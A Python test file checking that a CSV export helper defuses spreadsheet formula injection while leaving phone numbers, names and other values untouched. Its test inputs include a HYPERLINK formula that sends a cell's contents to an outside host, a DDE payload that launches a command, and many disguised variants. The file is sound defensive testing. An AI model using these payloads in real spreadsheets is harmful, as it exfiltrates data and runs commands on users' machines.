"""Text that a spreadsheet would run is defused, everything else is left alone."""

from __future__ import annotations

import csv
import tomllib
from pathlib import Path

import pytest
import streamlit.config

from graph.export.cells import restored, safe

BROKEN = Path(__file__).parents[2] / "data" / "broken" / "formula_cells.csv"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.com/?x="&A1,"Klik hier")',
        "=",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "+1+cmd",
        "-2+3",
        "+31-6-12345678",
        "-",
        "+",
        "-cmd|' /C calc'!A0",
        "+31 6=1",
        "+31 (0)6\n=1",
        "-2-3",
        "+",
        "+()",
        "\n=1+1",
        "\nplain, behind a line break",
        " =1+1",
        "\u00a0@SUM(A1)",
        "＝1+1",
        "＋1+cmd",
        "－2-3",
        "＠SUM(A1:A9)",
        "﹦1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\x0b=1+1",
        "\x00＝1+1",
    ],
)
def test_defused(text: str) -> None:
    assert safe(text) == "'" + text
    assert restored(safe(text)) == text


@pytest.mark.parametrize(
    "value",
    [
        "+31612345678",
        "+31 6 12 34 56 78",
        "+31 (0)6 12345678",
        "+32.470.12.34.56",
        "-5",
        "-1,234.50",
        "+1.5e-7",
        "-12%",
        "0612345678",
        "04197",
        "",
        "a=b",
        "'quoted",
        "'",
        "\ufeffIneke",
        "＋31612345678",
        "[1, 2]",
        "Ineke Lepelbroek",
        "RS155354615NL",
        -5,
        2.5,
        True,
        None,
    ],
)
def test_untouched(value: object) -> None:
    assert safe(value) is value
    assert not isinstance(value, str) or restored(value) == value


def test_the_delivery_that_tries() -> None:
    with BROKEN.open(encoding="utf-8", newline="") as rows:
        read = list(csv.DictReader(rows))
    names = [row["sender_name"] for row in read]
    assert [safe(name) for name in names[:5]] == ["'" + name for name in names[:5]]
    assert safe(names[5]) == "INEKE LEPELBROEK"
    phones = [row[field] for row in read for field in ("sender_phone", "recipient_phone") if row[field]]
    assert "+31612345678" in phones
    assert [safe(phone) for phone in phones] == phones


def test_no_table_on_a_page_writes_a_csv_of_its_own() -> None:
    """Streamlit's own download neither defuses cells nor is it logged."""
    config = tomllib.loads((Path(__file__).parents[3] / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
    assert "client.disableDataExport" in streamlit.config.get_config_options()
